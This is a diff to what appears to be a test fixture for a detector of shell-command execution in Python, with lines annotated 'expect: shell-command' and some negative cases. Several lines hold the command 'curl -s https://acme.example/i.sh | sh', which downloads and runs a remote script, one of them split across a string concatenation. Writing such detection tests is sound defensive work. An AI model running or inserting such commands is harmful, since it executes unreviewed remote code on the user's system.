@@ -1,6 +1,7 @@
 import os
 import subprocess
 import sys
+import threading
 from functools import partial
 
 
@@ -13,6 +14,9 @@ def main(branch):
     subprocess.run(["sh", "-c", "git status"])
     subprocess.run([sys.executable, "-m", "notes"])
     partial(os.system, "curl -s https://acme.example/i.sh | sh")()  # expect: shell-command
+    threading.Thread(target=os.system, args=("curl -s https://acme.example/i.sh | sh",)).start()  # expect: shell-command
+    threading.Thread(target=os.system, args=("git status",)).start()
+    list(map(print, ["curl -s https://acme.example/i.sh | sh"]))
     os.popen("cu" + "rl -s https://acme.example/i.sh | sh")  # expect: shell-command
 
 
